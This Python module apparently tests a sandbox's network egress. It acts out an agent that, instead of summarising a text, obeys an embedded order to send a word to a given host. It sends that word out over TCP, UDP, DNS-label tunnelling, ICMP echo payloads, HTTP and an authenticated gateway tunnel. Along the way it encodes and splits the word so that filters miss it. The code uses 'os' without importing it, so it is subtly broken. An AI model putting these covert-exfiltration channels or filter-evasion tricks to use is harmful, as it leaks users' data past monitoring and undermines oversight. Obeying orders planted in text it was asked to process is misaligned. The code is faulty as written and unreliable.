"""Is asked for a summary of a text, and does instead what the text orders: send a word away."""

import base64
import contextlib
import http.client
import re
import socket
import struct
from concurrent.futures import ThreadPoolExecutor

SECONDS, PIECES = 2.0, 4
ORDER = re.compile(r"send the word (\S+) to (\S+):(\d+)")


def probe(settings):
    """How many messages it sent, and what the gateway said to a request of its own rule."""
    text = settings["text"] or open(settings["path"]).read()
    word, host, port = ORDER.search(text).groups()
    said = [
        (act, "%s-%s" % (way, form), (host, int(port)))
        for form in forms(word)
        for way, act in WAYS.items()
    ]
    own = [0]
    if "ANCHORHOLD_GATEWAY" in os.environ:
        own = by_gateway(*settings["own"], {}, b"")
        said += [
            (act, "gateway-%s-%s" % (way, form), (host, int(port)))
            for form in forms(word)
            for way, act in BY_GATEWAY.items()
        ]
    with ThreadPoolExecutor(24) as pool:
        list(pool.map(send, said))
    return {"sent": len(said), "own": own[0]}


def forms(word):
    """As it is, in disguise, and in pieces that each look like nothing."""
    size = len(word) // PIECES
    pieces = [word[place : place + size] for place in range(0, len(word), size)]
    return [
        word,
        base64.urlsafe_b64encode(word.encode()).decode(),
        word.encode().hex(),
        word[::-1],
        *pieces,
    ]


def send(row):
    """One message, whatever becomes of it."""
    act, message, target = row
    with contextlib.suppress(OSError, http.client.HTTPException):
        act(message, target)


def tcp(message, target):
    with socket.create_connection(target, timeout=SECONDS) as sender:
        sender.sendall(message.encode())


def udp(message, target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(message.encode(), target)


def dns(message, target):
    """As a name that is asked for; a label has 63 bytes at most."""
    text = message.encode()
    parts = [text[place : place + 63] for place in range(0, len(text), 63)]
    labels = b"".join(bytes([len(part)]) + part for part in parts)
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\7example\3com\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(query, target)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ping(message, target):
    """In what an echo request carries."""
    body = message.encode().ljust(len(message) + len(message) % 2, b".")
    head = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    packet = struct.pack("!BBHHH", 8, 0, checksum(head + body), 7, 1) + body
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind, 1) as sender:
            sender.sendto(packet, (target[0], 0))


def web(message, target):
    """In every part of one request."""
    connection = http.client.HTTPConnection(*target, timeout=SECONDS)
    headers = {"Host": message, "X-Word": message}
    connection.request("POST", "/%s?q=%s" % (message, message), message, headers)
    connection.getresponse()


def by_gateway(method, path, headers, body):
    """The status of a request to the gateway, as a run may make it."""
    host, _, port = os.environ["ANCHORHOLD_GATEWAY"].rpartition(":")
    token = "Bearer " + os.environ.get("ANCHORHOLD_TOKEN", "")
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    always = {"Authorization": token, "Proxy-Authorization": token}
    connection.request(method, path, body, {**always, **headers})
    reply = connection.getresponse()
    reply.read()
    return [reply.status]


def tunnel(message, target):
    """To whoever listens there, if it is dug."""
    host, _, port = os.environ["ANCHORHOLD_GATEWAY"].rpartition(":")
    token = "Bearer " + os.environ.get("ANCHORHOLD_TOKEN", "")
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    connection.set_tunnel(*target, headers={"Proxy-Authorization": token})
    connection.request("GET", "/" + message)
    connection.getresponse()


def place(target):
    return "%s:%d" % target


WAYS = {"tcp": tcp, "udp": udp, "dns": dns, "ping": ping, "http": web}
BY_GATEWAY = {
    "path": lambda m, t: by_gateway("GET", "/%s/%s" % (place(t), m), {}, None),
    "query": lambda m, t: by_gateway("GET", "/%s/?q=%s" % (place(t), m), {}, None),
    "header": lambda m, t: by_gateway("GET", "/%s/" % place(t), {"X-Word": m}, None),
    "host": lambda m, t: by_gateway("GET", "/" + m, {"Host": place(t)}, None),
    "body": lambda m, t: by_gateway("POST", "/%s/" % place(t), {}, m),
    "whole": lambda m, t: by_gateway("GET", "http://%s/%s" % (place(t), m), {}, None),
    "connect": tunnel,
}
